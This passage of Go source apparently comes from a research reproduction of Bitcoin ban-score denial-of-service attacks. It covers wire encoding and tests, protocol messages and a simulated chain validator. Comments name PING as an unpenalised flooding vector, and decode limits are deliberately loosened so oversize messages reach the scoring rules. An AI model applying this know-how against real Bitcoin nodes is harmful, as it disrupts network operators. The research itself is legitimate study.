			t.Errorf("ReadVarInt(%x) succeeded on truncated input", in)
		}
	}
}

func TestVarIntRoundTripProperty(t *testing.T) {
	f := func(v uint64) bool {
		var buf bytes.Buffer
		if err := WriteVarInt(&buf, v); err != nil {
			return false
		}
		if buf.Len() != VarIntSerializeSize(v) {
			return false
		}
		out, err := ReadVarInt(&buf)
		return err == nil && out == v
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestVarStringRoundTrip(t *testing.T) {
	for _, s := range []string{"", "a", "/Satoshi:0.20.0/", string(make([]byte, 300))} {
		var buf bytes.Buffer
		if err := WriteVarString(&buf, s); err != nil {
			t.Fatalf("WriteVarString: %v", err)
		}
		out, err := ReadVarString(&buf, 1024)
		if err != nil {
			t.Fatalf("ReadVarString: %v", err)
		}
		if out != s {
			t.Errorf("round trip = %q, want %q", out, s)
		}
	}
}

func TestVarStringTooLong(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteVarString(&buf, string(make([]byte, 100))); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadVarString(&buf, 99); err == nil {
		t.Error("ReadVarString accepted string above cap")
	}
}

func TestVarBytesRoundTrip(t *testing.T) {
	in := []byte{1, 2, 3, 4, 5}
	var buf bytes.Buffer
	if err := WriteVarBytes(&buf, in); err != nil {
		t.Fatal(err)
	}
	out, err := ReadVarBytes(&buf, 16, "test")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out, in) {
		t.Errorf("round trip = %x, want %x", out, in)
	}
}

func TestVarBytesTooLong(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteVarBytes(&buf, make([]byte, 10)); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadVarBytes(&buf, 9, "test"); err == nil {
		t.Error("ReadVarBytes accepted bytes above cap")
	}
}

func TestReadElementsTruncated(t *testing.T) {
	empty := bytes.NewReader(nil)
	if _, err := readUint16(empty); err != io.EOF {
		t.Errorf("readUint16 on empty = %v, want EOF", err)
	}
	if _, err := readUint32(bytes.NewReader([]byte{1, 2})); err == nil {
		t.Error("readUint32 succeeded on 2 bytes")
	}
	if _, err := readUint64(bytes.NewReader([]byte{1, 2, 3})); err == nil {
		t.Error("readUint64 succeeded on 3 bytes")
	}
}

func TestUint16BERoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := writeUint16BE(&buf, 8333); err != nil {
		t.Fatal(err)
	}
	if got := buf.Bytes(); got[0] != 0x20 || got[1] != 0x8d {
		t.Errorf("big-endian encoding of 8333 = %x", got)
	}
	v, err := readUint16BE(&buf)
	if err != nil || v != 8333 {
		t.Errorf("round trip = %d, %v", v, err)
	}
}

func TestBoolRoundTrip(t *testing.T) {
	for _, v := range []bool{true, false} {
		var buf bytes.Buffer
		if err := writeBool(&buf, v); err != nil {
			t.Fatal(err)
		}
		out, err := readBool(&buf)
		if err != nil || out != v {
			t.Errorf("bool round trip(%v) = %v, %v", v, out, err)
		}
	}
}
