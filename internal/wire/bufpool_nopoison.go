//go:build !poolpoison

package wire

// PoolPoisonEnabled reports whether released buffers are poisoned; see the
// poolpoison build tag.
const PoolPoisonEnabled = false

// poison is a no-op in normal builds; build with -tags poolpoison to
// overwrite released buffers and surface use-after-Release aliasing.
func poison([]byte) {}
