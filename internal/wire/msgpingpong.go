package wire

import "io"

// MsgPing implements the Message interface and represents a PING message.
// PING carries no ban-score rule in any studied Bitcoin Core version, which
// is exactly why the paper's BM-DoS vector 1 floods with it.
type MsgPing struct {
	// Nonce to be echoed in the matching PONG.
	Nonce uint64
}

var _ Message = (*MsgPing)(nil)

// NewMsgPing returns a PING carrying the given nonce.
func NewMsgPing(nonce uint64) *MsgPing { return &MsgPing{Nonce: nonce} }

// BtcDecode decodes the PING message.
func (msg *MsgPing) BtcDecode(r io.Reader, _ uint32) error {
	var err error
	msg.Nonce, err = readUint64(r)
	return err
}

// BtcEncode encodes the PING message.
func (msg *MsgPing) BtcEncode(w io.Writer, _ uint32) error {
	return writeUint64(w, msg.Nonce)
}

// Command returns the protocol command string.
func (msg *MsgPing) Command() string { return CmdPing }

// MaxPayloadLength returns the maximum payload a PING message can be.
func (msg *MsgPing) MaxPayloadLength(uint32) uint32 { return 8 }

// MsgPong implements the Message interface and represents a PONG message
// answering a PING with its nonce.
type MsgPong struct {
	Nonce uint64
}

var _ Message = (*MsgPong)(nil)

// NewMsgPong returns a PONG echoing the given nonce.
func NewMsgPong(nonce uint64) *MsgPong { return &MsgPong{Nonce: nonce} }

// BtcDecode decodes the PONG message.
func (msg *MsgPong) BtcDecode(r io.Reader, _ uint32) error {
	var err error
	msg.Nonce, err = readUint64(r)
	return err
}

// BtcEncode encodes the PONG message.
func (msg *MsgPong) BtcEncode(w io.Writer, _ uint32) error {
	return writeUint64(w, msg.Nonce)
}

// Command returns the protocol command string.
func (msg *MsgPong) Command() string { return CmdPong }

// MaxPayloadLength returns the maximum payload a PONG message can be.
func (msg *MsgPong) MaxPayloadLength(uint32) uint32 { return 8 }
