package wire

import (
	"fmt"
	"io"
)

// hardMaxBlockHeadersPerMsg is the decode-time allocation cap for HEADERS,
// above the MaxBlockHeadersPerMsg policy limit so oversize HEADERS reach the
// ban-score rules (+20 per Table I).
const hardMaxBlockHeadersPerMsg = 5 * MaxBlockHeadersPerMsg

// MsgHeaders implements the Message interface and represents a HEADERS
// message answering GETHEADERS.
type MsgHeaders struct {
	Headers []*BlockHeader
}

var _ Message = (*MsgHeaders)(nil)

// NewMsgHeaders returns an empty HEADERS message.
func NewMsgHeaders() *MsgHeaders { return &MsgHeaders{} }

// AddBlockHeader appends a header.
func (msg *MsgHeaders) AddBlockHeader(bh *BlockHeader) {
	msg.Headers = append(msg.Headers, bh)
}

// BtcDecode decodes the HEADERS message. Each entry is a header followed by
// a transaction count which must be zero.
func (msg *MsgHeaders) BtcDecode(r io.Reader, _ uint32) error {
	count, err := ReadVarInt(r)
	if err != nil {
		return err
	}
	if count > hardMaxBlockHeadersPerMsg {
		return messageError("MsgHeaders.BtcDecode",
			fmt.Sprintf("header count %d exceeds hard cap %d", count, hardMaxBlockHeadersPerMsg))
	}
	msg.Headers = make([]*BlockHeader, 0, min(count, MaxBlockHeadersPerMsg))
	for i := uint64(0); i < count; i++ {
		bh := BlockHeader{}
		if err := readBlockHeader(r, &bh); err != nil {
			return err
		}
		txCount, err := ReadVarInt(r)
		if err != nil {
			return err
		}
		if txCount > 0 {
			return messageError("MsgHeaders.BtcDecode",
				fmt.Sprintf("block headers may not contain transactions [count %d]", txCount))
		}
		msg.Headers = append(msg.Headers, &bh)
	}
	return nil
}

// BtcEncode encodes the HEADERS message without enforcing the policy limit.
func (msg *MsgHeaders) BtcEncode(w io.Writer, _ uint32) error {
	if err := WriteVarInt(w, uint64(len(msg.Headers))); err != nil {
		return err
	}
	for _, bh := range msg.Headers {
		if err := writeBlockHeader(w, bh); err != nil {
			return err
		}
		if err := WriteVarInt(w, 0); err != nil {
			return err
		}
	}
	return nil
}

// Command returns the protocol command string.
func (msg *MsgHeaders) Command() string { return CmdHeaders }

// MaxPayloadLength returns the maximum payload a HEADERS message can be.
func (msg *MsgHeaders) MaxPayloadLength(uint32) uint32 {
	return MaxVarIntPayload + hardMaxBlockHeadersPerMsg*(BlockHeaderLen+1)
}
