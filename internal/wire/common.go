package wire

import (
	"encoding/binary"
	"fmt"
	"io"
	"math"

	"banscore/internal/chainhash"
)

// The integer helpers fast-path the repository's two concrete hot-path
// endpoints — *payloadReader on decode, *Buf on encode — because a stack
// buffer handed through the io.Reader/io.Writer interface escapes to the
// heap, and these helpers run several times per message on the flood
// path. The interface fallbacks keep every other reader/writer working.

func readUint8(r io.Reader) (uint8, error) {
	if pr, ok := r.(*payloadReader); ok {
		if s, ok := pr.take(1); ok {
			return s[0], nil
		}
		return 0, pr.eofErr()
	}
	var b [1]byte
	if _, err := io.ReadFull(r, b[:]); err != nil {
		return 0, err
	}
	return b[0], nil
}

func writeUint8(w io.Writer, v uint8) error {
	if b, ok := w.(*Buf); ok {
		var s [1]byte
		s[0] = v
		_, _ = b.Write(s[:])
		return nil
	}
	_, err := w.Write([]byte{v})
	return err
}

func readUint16(r io.Reader) (uint16, error) {
	if pr, ok := r.(*payloadReader); ok {
		if s, ok := pr.take(2); ok {
			return binary.LittleEndian.Uint16(s), nil
		}
		return 0, pr.eofErr()
	}
	var b [2]byte
	if _, err := io.ReadFull(r, b[:]); err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint16(b[:]), nil
}

func writeUint16(w io.Writer, v uint16) error {
	if b, ok := w.(*Buf); ok {
		var s [2]byte
		binary.LittleEndian.PutUint16(s[:], v)
		_, _ = b.Write(s[:])
		return nil
	}
	var b [2]byte
	binary.LittleEndian.PutUint16(b[:], v)
	_, err := w.Write(b[:])
	return err
}

func readUint16BE(r io.Reader) (uint16, error) {
	var b [2]byte
	if _, err := io.ReadFull(r, b[:]); err != nil {
		return 0, err
	}
	return binary.BigEndian.Uint16(b[:]), nil
}

func writeUint16BE(w io.Writer, v uint16) error {
	var b [2]byte
	binary.BigEndian.PutUint16(b[:], v)
	_, err := w.Write(b[:])
	return err
}

func readUint32(r io.Reader) (uint32, error) {
	if pr, ok := r.(*payloadReader); ok {
		if s, ok := pr.take(4); ok {
			return binary.LittleEndian.Uint32(s), nil
		}
		return 0, pr.eofErr()
	}
	var b [4]byte
	if _, err := io.ReadFull(r, b[:]); err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint32(b[:]), nil
}

func writeUint32(w io.Writer, v uint32) error {
	if b, ok := w.(*Buf); ok {
		var s [4]byte
		binary.LittleEndian.PutUint32(s[:], v)
		_, _ = b.Write(s[:])
		return nil
	}
	var b [4]byte
	binary.LittleEndian.PutUint32(b[:], v)
	_, err := w.Write(b[:])
	return err
}

func readUint64(r io.Reader) (uint64, error) {
	if pr, ok := r.(*payloadReader); ok {
		if s, ok := pr.take(8); ok {
			return binary.LittleEndian.Uint64(s), nil
		}
		return 0, pr.eofErr()
	}
	var b [8]byte
	if _, err := io.ReadFull(r, b[:]); err != nil {
		return 0, err
	}
	return binary.LittleEndian.Uint64(b[:]), nil
}

func writeUint64(w io.Writer, v uint64) error {
	if b, ok := w.(*Buf); ok {
		var s [8]byte
		binary.LittleEndian.PutUint64(s[:], v)
		_, _ = b.Write(s[:])
		return nil
	}
	var b [8]byte
	binary.LittleEndian.PutUint64(b[:], v)
	_, err := w.Write(b[:])
	return err
}

func readBool(r io.Reader) (bool, error) {
	v, err := readUint8(r)
	if err != nil {
		return false, err
	}
	return v != 0, nil
}

func writeBool(w io.Writer, v bool) error {
	var b uint8
	if v {
		b = 1
	}
	return writeUint8(w, b)
}

func readHash(r io.Reader, h *chainhash.Hash) error {
	_, err := io.ReadFull(r, h[:])
	return err
}

func writeHash(w io.Writer, h *chainhash.Hash) error {
	_, err := w.Write(h[:])
	return err
}

// ReadVarInt reads a Bitcoin CompactSize unsigned integer, rejecting
// non-canonical encodings exactly as Bitcoin Core does.
func ReadVarInt(r io.Reader) (uint64, error) {
	discriminant, err := readUint8(r)
	if err != nil {
		return 0, err
	}
	var rv uint64
	switch discriminant {
	case 0xff:
		v, err := readUint64(r)
		if err != nil {
			return 0, err
		}
		if v < 0x100000000 {
			return 0, messageError("ReadVarInt", nonCanonicalVarInt(v, discriminant, 0x100000000))
		}
		rv = v
	case 0xfe:
		v, err := readUint32(r)
		if err != nil {
			return 0, err
		}
		if v < 0x10000 {
			return 0, messageError("ReadVarInt", nonCanonicalVarInt(uint64(v), discriminant, 0x10000))
		}
		rv = uint64(v)
	case 0xfd:
		v, err := readUint16(r)
		if err != nil {
			return 0, err
		}
		if v < 0xfd {
			return 0, messageError("ReadVarInt", nonCanonicalVarInt(uint64(v), discriminant, 0xfd))
		}
		rv = uint64(v)
	default:
		rv = uint64(discriminant)
	}
	return rv, nil
}

func nonCanonicalVarInt(v uint64, discriminant uint8, minimum uint64) string {
	return fmt.Sprintf("CompactSize %d (0x%x) is not canonical: value must be at least %d", v, discriminant, minimum)
}

// WriteVarInt writes a Bitcoin CompactSize unsigned integer.
func WriteVarInt(w io.Writer, v uint64) error {
	switch {
	case v < 0xfd:
		return writeUint8(w, uint8(v))
	case v <= math.MaxUint16:
		if err := writeUint8(w, 0xfd); err != nil {
			return err
		}
		return writeUint16(w, uint16(v))
	case v <= math.MaxUint32:
		if err := writeUint8(w, 0xfe); err != nil {
			return err
		}
		return writeUint32(w, uint32(v))
	default:
		if err := writeUint8(w, 0xff); err != nil {
			return err
		}
		return writeUint64(w, v)
	}
}

// VarIntSerializeSize returns the number of bytes WriteVarInt would emit.
func VarIntSerializeSize(v uint64) int {
	switch {
	case v < 0xfd:
		return 1
	case v <= math.MaxUint16:
		return 3
	case v <= math.MaxUint32:
		return 5
	default:
		return 9
	}
}

// ReadVarString reads a variable-length string with a sanity cap so a
// malicious peer cannot force a huge allocation.
func ReadVarString(r io.Reader, maxLen uint64) (string, error) {
	count, err := ReadVarInt(r)
	if err != nil {
		return "", err
	}
	if count > maxLen {
		return "", messageError("ReadVarString",
			fmt.Sprintf("variable length string is too long [count %d, max %d]", count, maxLen))
	}
	buf := make([]byte, count)
	if _, err := io.ReadFull(r, buf); err != nil {
		return "", err
	}
	return string(buf), nil
}

// WriteVarString writes a variable-length string.
func WriteVarString(w io.Writer, s string) error {
	if err := WriteVarInt(w, uint64(len(s))); err != nil {
		return err
	}
	_, err := w.Write([]byte(s))
	return err
}

// ReadVarBytes reads a variable-length byte slice capped at maxAllowed.
func ReadVarBytes(r io.Reader, maxAllowed uint64, fieldName string) ([]byte, error) {
	count, err := ReadVarInt(r)
	if err != nil {
		return nil, err
	}
	if count > maxAllowed {
		return nil, messageError("ReadVarBytes",
			fmt.Sprintf("%s is larger than the max allowed size [count %d, max %d]", fieldName, count, maxAllowed))
	}
	b := make([]byte, count)
	if _, err := io.ReadFull(r, b); err != nil {
		return nil, err
	}
	return b, nil
}

// WriteVarBytes writes a variable-length byte slice.
func WriteVarBytes(w io.Writer, b []byte) error {
	if err := WriteVarInt(w, uint64(len(b))); err != nil {
		return err
	}
	_, err := w.Write(b)
	return err
}
