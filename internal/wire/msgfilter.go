package wire

import (
	"fmt"
	"io"
)

// Decode-time hard caps above the Table I policy limits so oversize filter
// messages reach the misbehavior tracking (both score 100 per Table I).
const (
	hardMaxFilterLoadFilterSize = 4 * MaxFilterLoadFilterSize
	hardMaxFilterAddDataSize    = 4 * MaxFilterAddDataSize
)

// BloomUpdateType specifies how the bloom filter is updated on matches.
type BloomUpdateType uint8

// Bloom update flags.
const (
	BloomUpdateNone         BloomUpdateType = 0
	BloomUpdateAll          BloomUpdateType = 1
	BloomUpdateP2PubkeyOnly BloomUpdateType = 2
)

// MsgFilterLoad implements the Message interface and represents a FILTERLOAD
// message (BIP37) installing a bloom filter on the connection.
type MsgFilterLoad struct {
	Filter    []byte
	HashFuncs uint32
	Tweak     uint32
	Flags     BloomUpdateType
}

var _ Message = (*MsgFilterLoad)(nil)

// NewMsgFilterLoad returns a FILTERLOAD with the given filter parameters.
func NewMsgFilterLoad(filter []byte, hashFuncs, tweak uint32, flags BloomUpdateType) *MsgFilterLoad {
	return &MsgFilterLoad{Filter: filter, HashFuncs: hashFuncs, Tweak: tweak, Flags: flags}
}

// BtcDecode decodes the FILTERLOAD message.
func (msg *MsgFilterLoad) BtcDecode(r io.Reader, _ uint32) error {
	filter, err := ReadVarBytes(r, hardMaxFilterLoadFilterSize, "filterload filter")
	if err != nil {
		return err
	}
	msg.Filter = filter
	if msg.HashFuncs, err = readUint32(r); err != nil {
		return err
	}
	if msg.Tweak, err = readUint32(r); err != nil {
		return err
	}
	flags, err := readUint8(r)
	if err != nil {
		return err
	}
	msg.Flags = BloomUpdateType(flags)
	return nil
}

// BtcEncode encodes the FILTERLOAD message without enforcing the policy size.
func (msg *MsgFilterLoad) BtcEncode(w io.Writer, _ uint32) error {
	if len(msg.Filter) > hardMaxFilterLoadFilterSize {
		return messageError("MsgFilterLoad.BtcEncode",
			fmt.Sprintf("filter size %d exceeds hard cap %d", len(msg.Filter), hardMaxFilterLoadFilterSize))
	}
	if err := WriteVarBytes(w, msg.Filter); err != nil {
		return err
	}
	if err := writeUint32(w, msg.HashFuncs); err != nil {
		return err
	}
	if err := writeUint32(w, msg.Tweak); err != nil {
		return err
	}
	return writeUint8(w, uint8(msg.Flags))
}

// Command returns the protocol command string.
func (msg *MsgFilterLoad) Command() string { return CmdFilterLoad }

// MaxPayloadLength returns the maximum payload a FILTERLOAD message can be.
func (msg *MsgFilterLoad) MaxPayloadLength(uint32) uint32 {
	return MaxVarIntPayload + hardMaxFilterLoadFilterSize + 4 + 4 + 1
}

// MsgFilterAdd implements the Message interface and represents a FILTERADD
// message (BIP37) adding a data element to the loaded bloom filter.
type MsgFilterAdd struct {
	Data []byte
}

var _ Message = (*MsgFilterAdd)(nil)

// NewMsgFilterAdd returns a FILTERADD carrying the given data element.
func NewMsgFilterAdd(data []byte) *MsgFilterAdd { return &MsgFilterAdd{Data: data} }

// BtcDecode decodes the FILTERADD message.
func (msg *MsgFilterAdd) BtcDecode(r io.Reader, _ uint32) error {
	data, err := ReadVarBytes(r, hardMaxFilterAddDataSize, "filteradd data")
	if err != nil {
		return err
	}
	msg.Data = data
	return nil
}

// BtcEncode encodes the FILTERADD message without enforcing the policy size.
func (msg *MsgFilterAdd) BtcEncode(w io.Writer, _ uint32) error {
	if len(msg.Data) > hardMaxFilterAddDataSize {
		return messageError("MsgFilterAdd.BtcEncode",
			fmt.Sprintf("data size %d exceeds hard cap %d", len(msg.Data), hardMaxFilterAddDataSize))
	}
	return WriteVarBytes(w, msg.Data)
}

// Command returns the protocol command string.
func (msg *MsgFilterAdd) Command() string { return CmdFilterAdd }

// MaxPayloadLength returns the maximum payload a FILTERADD message can be.
func (msg *MsgFilterAdd) MaxPayloadLength(uint32) uint32 {
	return MaxVarIntPayload + hardMaxFilterAddDataSize
}
