package blockchain

import (
	"fmt"
	"sync"
	"time"

	"banscore/internal/chainhash"
	"banscore/internal/wire"
)

// blockNode is one entry of the in-memory block index.
type blockNode struct {
	hash   chainhash.Hash
	height int32
	header wire.BlockHeader
	parent *blockNode
}

// Chain is the simplified chain state: a block index, an invalid-block
// cache, and a best tip. It is safe for concurrent use.
type Chain struct {
	params *Params
	now    func() time.Time

	mu      sync.RWMutex
	index   map[chainhash.Hash]*blockNode
	invalid map[chainhash.Hash]ErrorCode
	tip     *blockNode
}

// Option configures a Chain.
type Option func(*Chain)

// WithClock injects a time source, letting tests and the simulation control
// "now" for timestamp validation.
func WithClock(now func() time.Time) Option {
	return func(c *Chain) { c.now = now }
}

// New returns a Chain containing only the genesis block of params.
func New(params *Params, opts ...Option) *Chain {
	c := &Chain{
		params:  params,
		now:     time.Now,
		index:   make(map[chainhash.Hash]*blockNode),
		invalid: make(map[chainhash.Hash]ErrorCode),
	}
	for _, opt := range opts {
		opt(c)
	}
	genesis := &blockNode{
		hash:   params.GenesisHash,
		height: 0,
		header: params.GenesisBlock.Header,
	}
	c.index[genesis.hash] = genesis
	c.tip = genesis
	return c
}

// Params returns the chain parameters.
func (c *Chain) Params() *Params { return c.params }

// BestHash returns the hash of the current tip.
func (c *Chain) BestHash() chainhash.Hash {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.tip.hash
}

// BestHeight returns the height of the current tip.
func (c *Chain) BestHeight() int32 {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.tip.height
}

// HaveBlock reports whether the block hash is in the index.
func (c *Chain) HaveBlock(hash *chainhash.Hash) bool {
	c.mu.RLock()
	defer c.mu.RUnlock()
	_, ok := c.index[*hash]
	return ok
}

// IsKnownInvalid reports whether the block hash is cached as invalid.
func (c *Chain) IsKnownInvalid(hash *chainhash.Hash) bool {
	c.mu.RLock()
	defer c.mu.RUnlock()
	_, ok := c.invalid[*hash]
	return ok
}

// BlockHeight returns the height of the given block, or -1 if unknown.
func (c *Chain) BlockHeight(hash *chainhash.Hash) int32 {
	c.mu.RLock()
	defer c.mu.RUnlock()
	if node, ok := c.index[*hash]; ok {
		return node.height
	}
	return -1
}

// CheckBlockSanity performs the context-free validation of a block: proof of
// work, merkle commitment (mutation detection), coinbase structure, size,
// and timestamp bounds. It is exported because the attacker-cost experiments
// measure it in isolation.
func (c *Chain) CheckBlockSanity(block *wire.MsgBlock) error {
	header := &block.Header
	hash := header.BlockHash()

	if err := CheckProofOfWork(&hash, header.Bits, c.params.PowLimit); err != nil {
		return err
	}

	if len(block.Transactions) == 0 {
		return ruleError(ErrNoTransactions, "block does not contain any transactions")
	}
	if size := block.SerializeSize(); size > c.params.MaxBlockSize {
		return ruleError(ErrBlockTooBig, fmt.Sprintf("block size %d exceeds max %d", size, c.params.MaxBlockSize))
	}

	if !isCoinbase(block.Transactions[0]) {
		return ruleError(ErrFirstTxNotCoinbase, "first transaction is not a coinbase")
	}
	for i, tx := range block.Transactions[1:] {
		if isCoinbase(tx) {
			return ruleError(ErrMultipleCoinbases, fmt.Sprintf("transaction %d is a second coinbase", i+1))
		}
	}

	// Merkle commitment: a mismatch or a duplicated tail means the block
	// data was mutated in transit — the Table I rule scoring 100.
	txHashes := block.TxHashes()
	if chainhash.HasDuplicateTail(txHashes) {
		return ruleError(ErrDuplicateTx, "block transaction list has a duplicated tail (merkle malleation)")
	}
	merkle := chainhash.MerkleRoot(txHashes)
	if merkle != header.MerkleRoot {
		return ruleError(ErrBadMerkleRoot,
			fmt.Sprintf("block merkle root %s does not match calculated %s", header.MerkleRoot, merkle))
	}

	if header.Timestamp.After(c.now().Add(c.params.MaxTimeOffset)) {
		return ruleError(ErrTimeTooNew, "block timestamp too far in the future")
	}
	return nil
}

// ProcessBlock validates the block and, when valid, connects it to the
// index, advancing the tip if it extends the best chain. The returned
// RuleError codes map directly onto the Table I BLOCK ban rules.
func (c *Chain) ProcessBlock(block *wire.MsgBlock) (int32, error) {
	hash := block.BlockHash()

	c.mu.Lock()
	if code, ok := c.invalid[hash]; ok {
		c.mu.Unlock()
		return 0, ruleError(ErrCachedInvalid, fmt.Sprintf("block %s cached as invalid (%s)", hash, code))
	}
	if _, ok := c.index[hash]; ok {
		c.mu.Unlock()
		return 0, ruleError(ErrDuplicateBlock, fmt.Sprintf("already have block %s", hash))
	}
	c.mu.Unlock()

	if err := c.CheckBlockSanity(block); err != nil {
		// Mutated blocks are NOT cached as invalid: the hash does not
		// commit to the mutation, so an honest copy of the same block
		// may still arrive. Everything else is cached.
		if !IsMutation(err) {
			if code, ok := RuleErrorCode(err); ok {
				c.mu.Lock()
				c.invalid[hash] = code
				c.mu.Unlock()
			}
		}
		return 0, err
	}

	c.mu.Lock()
	defer c.mu.Unlock()

	prevHash := block.Header.PrevBlock
	if _, bad := c.invalid[prevHash]; bad {
		c.invalid[hash] = ErrPrevBlockInvalid
		return 0, ruleError(ErrPrevBlockInvalid, fmt.Sprintf("previous block %s is invalid", prevHash))
	}
	parent, ok := c.index[prevHash]
	if !ok {
		return 0, ruleError(ErrPrevBlockMissing, fmt.Sprintf("previous block %s is not known", prevHash))
	}

	node := &blockNode{
		hash:   hash,
		height: parent.height + 1,
		header: block.Header,
		parent: parent,
	}
	c.index[hash] = node
	if node.height > c.tip.height {
		c.tip = node
	}
	return node.height, nil
}

// MarkInvalid force-caches a block hash as invalid with the given code. The
// defamation experiments use it to seed "cached as invalid" state.
func (c *Chain) MarkInvalid(hash *chainhash.Hash, code ErrorCode) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.invalid[*hash] = code
}

// CheckHeadersContinuity verifies that a HEADERS sequence is internally
// continuous (each entry's PrevBlock is the previous entry's hash). A break
// is the "Non-continuous headers sequence" misbehavior (+20 per Table I).
func CheckHeadersContinuity(headers []*wire.BlockHeader) bool {
	for i := 1; i < len(headers); i++ {
		prevHash := headers[i-1].BlockHash()
		if headers[i].PrevBlock != prevHash {
			return false
		}
	}
	return true
}

// HeadersConnect reports whether the first header of a HEADERS sequence
// connects to a known block. Repeated non-connecting deliveries accumulate
// toward the "10 non-connecting headers" misbehavior (+20 per Table I).
func (c *Chain) HeadersConnect(headers []*wire.BlockHeader) bool {
	if len(headers) == 0 {
		return true
	}
	return c.HaveBlock(&headers[0].PrevBlock)
}

// isCoinbase reports whether tx is a coinbase: one input spending the null
// outpoint.
func isCoinbase(tx *wire.MsgTx) bool {
	if len(tx.TxIn) != 1 {
		return false
	}
	prev := &tx.TxIn[0].PreviousOutPoint
	return prev.Index == wire.MaxPrevOutIndex && prev.Hash == chainhash.ZeroHash
}

// IsCoinbase exposes the coinbase test for other packages.
func IsCoinbase(tx *wire.MsgTx) bool { return isCoinbase(tx) }

// BlockLocator returns a locator for the best chain: the tip hash, a few
// recent ancestors, then exponentially spaced ancestors back to genesis.
func (c *Chain) BlockLocator() []*chainhash.Hash {
	c.mu.RLock()
	defer c.mu.RUnlock()
	var locator []*chainhash.Hash
	step := int32(1)
	node := c.tip
	for node != nil {
		hash := node.hash
		locator = append(locator, &hash)
		if node.height == 0 {
			break
		}
		if len(locator) >= 10 {
			step *= 2
		}
		for i := int32(0); i < step && node.parent != nil; i++ {
			node = node.parent
		}
	}
	return locator
}

// HeadersAfter returns up to max best-chain headers strictly after the first
// locator hash found on the best chain (genesis when none matches). It backs
// the node's GETHEADERS handler.
func (c *Chain) HeadersAfter(locator []*chainhash.Hash, max int) []*wire.BlockHeader {
	c.mu.RLock()
	defer c.mu.RUnlock()

	known := make(map[chainhash.Hash]struct{}, len(locator))
	for _, h := range locator {
		known[*h] = struct{}{}
	}

	// Walk the best chain from the tip back to the fork point, collecting
	// headers, then reverse into ascending order.
	var rev []*wire.BlockHeader
	for node := c.tip; node != nil && node.height > 0; node = node.parent {
		if _, hit := known[node.hash]; hit {
			break
		}
		header := node.header
		rev = append(rev, &header)
	}
	if len(rev) > max && max >= 0 {
		rev = rev[len(rev)-max:]
	}
	for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
		rev[i], rev[j] = rev[j], rev[i]
	}
	return rev
}
