package blockchain

import (
	"math/big"
	"time"

	"banscore/internal/chainhash"
	"banscore/internal/wire"
)

// Params carries the consensus parameters of a chain instance. The
// reproduction uses a simulation chain with a trivially easy proof-of-work
// limit so experiments can mine real blocks in microseconds while exercising
// the identical validation code paths.
type Params struct {
	// Name of the network.
	Name string

	// Net is the wire magic of the network.
	Net wire.BitcoinNet

	// GenesisBlock of the chain.
	GenesisBlock *wire.MsgBlock

	// GenesisHash caches the genesis block hash.
	GenesisHash chainhash.Hash

	// PowLimit is the loosest valid difficulty target.
	PowLimit *big.Int

	// PowBits is the compact form of PowLimit, used by generated blocks.
	PowBits uint32

	// MaxBlockSize in serialized bytes.
	MaxBlockSize int

	// MaxTimeOffset is how far into the future a header timestamp may be.
	MaxTimeOffset time.Duration
}

// simNetPowLimit is 2^255-1: essentially every hash is valid, so mining is a
// single attempt on average. The PoW *check* still executes fully.
var simNetPowLimit = new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 255), big.NewInt(1))

// SimNetParams returns the parameters of the in-memory simulation chain.
func SimNetParams() *Params {
	genesis := simNetGenesisBlock()
	return &Params{
		Name:          "simnet",
		Net:           wire.SimNet,
		GenesisBlock:  genesis,
		GenesisHash:   genesis.BlockHash(),
		PowLimit:      simNetPowLimit,
		PowBits:       BigToCompact(simNetPowLimit),
		MaxBlockSize:  wire.MaxBlockPayload,
		MaxTimeOffset: 2 * time.Hour,
	}
}

// HardNetParams returns parameters whose difficulty requires roughly 2^20
// hash attempts per block — the setting the mining-rate experiments (Fig. 6,
// Fig. 7, Table III) use so hash throughput is meaningful.
func HardNetParams() *Params {
	p := SimNetParams()
	p.Name = "hardnet"
	limit := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 236), big.NewInt(1))
	p.PowLimit = limit
	p.PowBits = BigToCompact(limit)
	return p
}

// simNetGenesisBlock builds the deterministic genesis block of the
// simulation chain: a single coinbase paying to an anyone-can-spend script.
func simNetGenesisBlock() *wire.MsgBlock {
	coinbase := wire.NewMsgTx(1)
	coinbase.AddTxIn(&wire.TxIn{
		PreviousOutPoint: wire.OutPoint{Index: wire.MaxPrevOutIndex},
		SignatureScript:  []byte("ban-score reproduction simnet genesis"),
		Sequence:         wire.MaxTxInSequenceNum,
	})
	coinbase.AddTxOut(wire.NewTxOut(50*1e8, []byte{0x51})) // OP_TRUE

	txid := coinbase.TxHash()
	header := wire.BlockHeader{
		Version:    1,
		PrevBlock:  chainhash.ZeroHash,
		MerkleRoot: chainhash.MerkleRoot([]chainhash.Hash{txid}),
		Timestamp:  time.Unix(1600000000, 0),
		Bits:       BigToCompact(simNetPowLimit),
		Nonce:      0,
	}
	block := wire.NewMsgBlock(&header)
	block.AddTransaction(coinbase)
	return block
}
