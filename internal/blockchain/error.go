// Package blockchain implements the simplified chain-state substrate the
// reproduction's full node validates blocks against. It provides exactly the
// validation outcomes the ban-score rules of Table I key on: mutated block
// data, cached-invalid blocks, invalid previous blocks, and missing previous
// blocks, plus proof-of-work checking with a parameterized difficulty so the
// experiments can mine blocks at laptop scale.
package blockchain

import (
	"errors"
	"fmt"
)

// ErrorCode identifies a kind of block validation failure. The node maps
// these one-to-one onto Table I ban-score rules.
type ErrorCode int

// Validation error codes.
const (
	// ErrHighHash: the block hash does not satisfy the target (invalid
	// proof of work).
	ErrHighHash ErrorCode = iota + 1

	// ErrBadMerkleRoot: the header merkle root does not match the
	// transactions — "Block data was mutated" (ban 100).
	ErrBadMerkleRoot

	// ErrDuplicateTx: the transaction list ends in duplicated txids, the
	// merkle-malleation form of mutation — also "mutated" (ban 100).
	ErrDuplicateTx

